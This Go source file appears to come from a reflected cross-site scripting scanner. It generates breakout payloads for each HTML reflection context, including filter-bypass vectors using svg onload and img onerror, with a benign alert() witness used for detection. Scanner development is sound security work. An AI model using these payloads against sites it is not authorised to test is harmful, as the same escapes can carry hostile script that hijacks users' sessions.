package injection

import "github.com/kvasir-sec/reflectix/pkg/models"

// PayloadCandidate is one breakout template bound to a reflection
// context. Payload is the full injected string; Signature is the
// literal prefix that must appear unescaped in the response for the
// breakout to count.
type PayloadCandidate struct {
	Payload        string
	Signature      string
	Description    string
	Witness        string // random tag inside the alert() call
	NeedsScriptTag bool   // payload relies on a literal <script
}

// witnessCall builds the benign execution witness. The random tag
// makes every occurrence in a response attributable to this probe.
func witnessCall(witness string) string {
	return "alert('" + witness + "')"
}

// Synthesize maps a classified context to the ordered breakout
// candidates to try. Most specific template first; the generic
// text-context breakout serves as fallback where it can also fire.
func Synthesize(rctx models.ReflectionContext, witness string) []PayloadCandidate {
	alert := witnessCall(witness)

	generic := PayloadCandidate{
		Payload:        "><script>" + alert + "</script>",
		Signature:      "><script>",
		Description:    "generic tag-close breakout",
		Witness:        witness,
		NeedsScriptTag: true,
	}

	switch rctx.Kind {
	case models.KindTitleText:
		return []PayloadCandidate{
			{
				Payload:        "</title><script>" + alert + "</script>",
				Signature:      "</title>",
				Description:    "title close breakout",
				Witness:        witness,
				NeedsScriptTag: true,
			},
		}
	case models.KindTagName:
		return []PayloadCandidate{
			{
				Payload:        "script>" + alert + "</script",
				Signature:      "script>",
				Description:    "tag name completion",
				Witness:        witness,
				NeedsScriptTag: true,
			},
		}
	case models.KindPartialTagName:
		return []PayloadCandidate{
			{
				Payload:        "/><script>" + alert + "</script>",
				Signature:      "/><script>",
				Description:    "partial tag self-close breakout",
				Witness:        witness,
				NeedsScriptTag: true,
			},
			generic,
		}
	case models.KindAttributeValue:
		switch rctx.Quote {
		case models.QuoteSingle:
			return []PayloadCandidate{
				{
					Payload:        "'></pre><script>" + alert + "</script>",
					Signature:      "'></pre>",
					Description:    "single-quoted attribute breakout",
					Witness:        witness,
					NeedsScriptTag: true,
				},
				generic,
			}
		case models.QuoteDouble:
			return []PayloadCandidate{
				{
					Payload:        `"></pre><script>` + alert + "</script>",
					Signature:      `"></pre>`,
					Description:    "double-quoted attribute breakout",
					Witness:        witness,
					NeedsScriptTag: true,
				},
				generic,
			}
		default:
			return []PayloadCandidate{generic}
		}
	case models.KindScriptBody:
		return []PayloadCandidate{
			{
				Payload:     ";" + alert + ";//",
				Signature:   ";" + alert,
				Description: "script body statement injection",
				Witness:     witness,
			},
		}
	case models.KindComment:
		return []PayloadCandidate{
			{
				Payload:        "--><script>" + alert + "</script>",
				Signature:      "--><script>",
				Description:    "comment close breakout",
				Witness:        witness,
				NeedsScriptTag: true,
			},
			generic,
		}
	default:
		// PlainText and Unknown share the text-context breakout.
		return []PayloadCandidate{generic}
	}
}

// FilteredCandidates are the non-<script vectors substituted when the
// target strips or encodes the literal "<script" keyword. They take
// priority over the tag-based template once the filter is observed.
func FilteredCandidates(rctx models.ReflectionContext, witness string) []PayloadCandidate {
	alert := witnessCall(witness)

	svg := PayloadCandidate{
		Payload:     "<svg onload=" + alert + ">",
		Signature:   "<svg",
		Description: "svg onload vector",
		Witness:     witness,
	}
	img := PayloadCandidate{
		Payload:     "<img src=x onerror=" + alert + ">",
		Signature:   "<img",
		Description: "img onerror vector",
		Witness:     witness,
	}

	// Keep the context's own closing fragment in front so the vector
	// still escapes the enclosing construct.
	switch rctx.Kind {
	case models.KindTitleText:
		svg.Payload = "</title>" + svg.Payload
		img.Payload = "</title>" + img.Payload
	case models.KindAttributeValue:
		switch rctx.Quote {
		case models.QuoteSingle:
			svg.Payload = "'>" + svg.Payload
			img.Payload = "'>" + img.Payload
		case models.QuoteDouble:
			svg.Payload = `">` + svg.Payload
			img.Payload = `">` + img.Payload
		case models.QuoteNone:
			svg.Payload = ">" + svg.Payload
			img.Payload = ">" + img.Payload
		}
	case models.KindComment:
		svg.Payload = "-->" + svg.Payload
		img.Payload = "-->" + img.Payload
	}

	return []PayloadCandidate{svg, img}
}
